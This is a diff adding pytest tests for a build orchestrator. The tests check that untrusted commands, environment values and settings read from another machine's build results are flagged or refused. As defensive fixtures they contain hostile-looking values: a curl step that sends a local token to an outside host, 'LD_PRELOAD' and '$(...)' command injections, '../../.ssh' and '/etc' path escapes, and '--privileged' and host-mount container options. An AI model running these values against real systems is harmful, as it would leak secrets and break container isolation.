@@ -14,12 +14,15 @@ from orchestrator.models.result import ContainerInfo
 from orchestrator.models.target import (
     BackendName,
     BuildRequest,
+    CompilePlan,
     CudaSource,
     Digest,
+    EmulationMode,
     EnvironmentSpec,
     EnvVar,
     Frontend,
     FrontendName,
+    LibraryStep,
     OnMismatch,
     OnRefusal,
     Source,
@@ -257,3 +260,109 @@ def test_facts_that_differ_are_named(tmp_path: Path) -> None:
         ("env DEPTH", "$(nproc)", "3"),
     ]
     assert from_results.differing(before, written()) == ()
+
+
+# What only a container may run
+
+
+def foreign(folder: Path, theirs: Target, mine: Target = PLANNED) -> tuple[str, ...]:
+    found = from_results.as_recorded([mine], read(folder, written(theirs)), where="r.json")
+    return found.foreign.get(mine.id, ())
+
+
+def with_steps(**steps: Any) -> Target:
+    return replace(PLANNED, steps=TargetSteps(**steps))
+
+
+def with_env(*, evaluated: bool = False, **values: str) -> Target:
+    more = (EnvVar(name=n, value=v, origin="env", shell=evaluated) for n, v in values.items())
+    return replace(PLANNED, env=(*PLANNED.env, *more))
+
+
+@pytest.mark.parametrize(
+    ("theirs", "what"),
+    [
+        (with_steps(before_all="touch /owned"), "before-all: touch /owned"),
+        (with_steps(before_build="make"), "before-build: make"),
+        (with_steps(repair="cp {wheel} {dest_dir}"), "repair: cp {wheel} {dest_dir}"),
+        (with_steps(test_command="pytest"), "test-command: pytest"),
+        (with_steps(test_before="true"), "test-before: true"),
+        (with_steps(test_requires=("x @ https://host/x.whl",)), "test-requires: ('x @ "),
+        (with_steps(test_groups=("dev",)), "test-groups: ('dev',)"),
+        (with_steps(config_settings=(("--global-option", "x"),)), "config-settings: "),
+        (with_steps(environment=EnvironmentSpec(requires=("evil",))), "environment: "),
+        (with_env(CC="sh -c true"), "env CC=sh -c true"),
+        (with_env(LD_PRELOAD="/x.so"), "env LD_PRELOAD=/x.so"),
+        (with_env(V="$(touch /owned)", evaluated=True), "env V=$(touch /owned)"),
+        (
+            replace(PLANNED, compiling=CompilePlan(emulation=EmulationMode.CROSS)),
+            "compiling: cross by gcc",
+        ),
+    ],
+)
+def test_what_the_plan_does_not_run_is_foreign(theirs: Target, what: str, tmp_path: Path) -> None:
+    (found,) = foreign(tmp_path, theirs)
+    assert found.startswith(what)
+
+
+def test_the_commands_of_a_library_are_foreign_too(tmp_path: Path) -> None:
+    library = LibraryStep(name="core", command="make", outputs=("*.so",))
+    mine = replace(PLANNED, library=library)
+    assert foreign(tmp_path, mine, mine) == ()
+    theirs = replace(mine, library=replace(library, command="touch /owned"))
+    (found,) = foreign(tmp_path, theirs, mine)
+    assert "touch /owned" in found
+
+
+def test_what_the_plan_runs_itself_is_not_foreign(tmp_path: Path) -> None:
+    mine = replace(with_env(PRETEND="2.0", V="$(nproc)", evaluated=True), steps=BUILT.steps)
+    assert foreign(tmp_path, mine, mine) == ()
+    # Another version of it, and less than the plan does.
+    theirs = replace(mine, version="1.0+a", env=with_env(PRETEND="1.0+a").env, steps=TargetSteps())
+    assert foreign(tmp_path, theirs, mine) == ()
+    assert foreign(tmp_path, replace(theirs, env=with_env(PRETEND="1.0").env), mine) != ()
+    literal = replace(mine, env=with_env(V="$(nproc)").env)
+    assert foreign(tmp_path, mine, literal) == ("env PRETEND=2.0", "env V=$(nproc)")
+
+
+def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(tmp_path: Path) -> None:
+    theirs = with_steps(before_build="curl https://host/?$MY_TOKEN")
+    results = read(tmp_path, written(theirs))
+    found = from_results.as_recorded([PLANNED], results, where="r.json")
+    (what,) = found.exposed[ID]
+    assert what == "before-build: curl https://host/?$MY_TOKEN, with MY_TOKEN of this machine"
+
+    without = replace(PLANNED, env=())
+    assert from_results.as_recorded([without], results, where="r.json").exposed == {}
+    mine = replace(PLANNED, steps=theirs.steps)
+    assert from_results.as_recorded([mine], results, where="r.json").exposed == {}
+
+
+@pytest.mark.parametrize(
+    "theirs",
+    [
+        replace(BUILT, baseline="2"),
+        replace(BUILT, baseline="2.17 -o x"),
+        replace(BUILT, abi3="--help"),
+        replace(BUILT, test_pythons=("cp313", "../python")),
+        replace(BUILT, compiling=CompilePlan(baseline="2.x")),
+        replace(BUILT, resources=TargetResources(memory="1g --privileged")),
+        replace(BUILT, pins=("torch==",)),
+        replace(BUILT, steps=TargetSteps(test_sources=("../../.ssh",))),
+        replace(BUILT, steps=TargetSteps(test_sources=("/etc",))),
+    ],
+)
+def test_facts_that_no_plan_has_are_refused(theirs: Target, tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="cannot be"):
+        from_results.as_recorded([PLANNED], read(tmp_path, written(theirs)), where="r.json")
+
+
+@pytest.mark.parametrize("image", ["--privileged", "-v=/:/host", "a b", "$(id)", "\n"])
+def test_an_image_is_no_option(image: str, tmp_path: Path) -> None:
+    for built in (
+        written(replace(BUILT, image=image), container=None),
+        written(container=replace(CONTAINER, digest=image)),
+        written(container=replace(CONTAINER, digest="", image=image)),
+    ):
+        with pytest.raises(ConfigError, match="image cannot be"):
+            from_results.as_recorded([PLANNED], read(tmp_path, built), where="r.json")
